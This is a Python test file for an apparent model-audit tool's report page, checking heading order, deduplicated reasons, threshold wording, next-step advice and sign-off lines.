    coverage = Coverage((*failing.coverage.artifacts, *(replace(record, path=each.artifact) for each in copies)))
    findings = (call, *copies, replace(mismatch, acceptance=acceptance), *others)
    report = replace(failing, findings=findings, decision=replace(failing.decision, coverage=coverage))
    text = parse_page(report).text
    headings = ("They fail the policy 5", "Open, for a person to decide 3", "Accepted 2", "For information 3")
    places = [text.index(each) for each in headings]
    assert places == sorted(places)
    assert "3 files with one digest" not in text, "a part of a file has no digest of its own"
    alone = replace(report, findings=(*copies, *others))
    assert "3 files with one digest byte 1,234" in parse_page(alone).text
    assert "The 3 places, with their fingerprints" in parse_page(alone).text


def test_same_reason_for_several_files_is_stated_once_on_the_first_page(failing: AuditReport) -> None:
    addresses = [finding.artifact for finding in failing.findings if finding.artifact]
    reasons = tuple(f"{address}: it calls os.system" for address in dict.fromkeys(addresses))
    report = replace(failing, decision=replace(failing.decision, reasons=reasons))
    head = parse_page(report).text.partition("Exit code")[0]
    assert len(reasons) > 2 and head.count("it calls os.system") == 1


def test_load_box_of_a_pass_states_the_findings_below_the_threshold(passing: AuditReport, failing: AuditReport) -> None:
    finding = replace(failing.findings[0], severity=Severity.MEDIUM, message="The data are too short", acceptance=None)
    head = parse_page(replace(passing, findings=(finding,))).text.partition("Sign-off")[0]
    lead = "The policy permits loading with what is below its threshold: 1 medium."
    assert f"{lead} {finding.artifact}: The data are too short." in head
    assert "below its threshold" not in parse_page(passing).text.partition("Sign-off")[0]


def test_next_step_of_every_report_says_what_the_person_does(any_report: AuditReport) -> None:
    steps = list_steps(any_report)
    text = parse_page(any_report).text
    assert steps and all(step.person[:20] in text for step in steps)
    critical = any(
        each.severity is Severity.CRITICAL and each.check is not CheckFamily.LICENSE and each.acceptance is None
        for each in any_report.findings
    )
    assert not critical or steps[0].person.startswith("Do not load this model.")
    assert not any("modelaudit " in step.person for step in steps)
    assert "the terms named above" not in text and "No decision is needed" not in text


def test_first_page_names_who_signed_off_the_model(passing: AuditReport) -> None:
    signoff = SignOff(
        *("a" * 64, SignOffAnswer.APPROVE, "we read it", "Ann", "counsel", ""),
        *("2026-11-20", "2027-11-20", SignOffState.VALID, "decisions.yaml:4"),
    )
    head = parse_page(replace(passing, signoffs=(signoff,))).text.partition("Ask first")[0]
    assert "Signed off Approved on 2026-11-20 by Ann (counsel) until 2027-11-20." in head and "no person" not in head
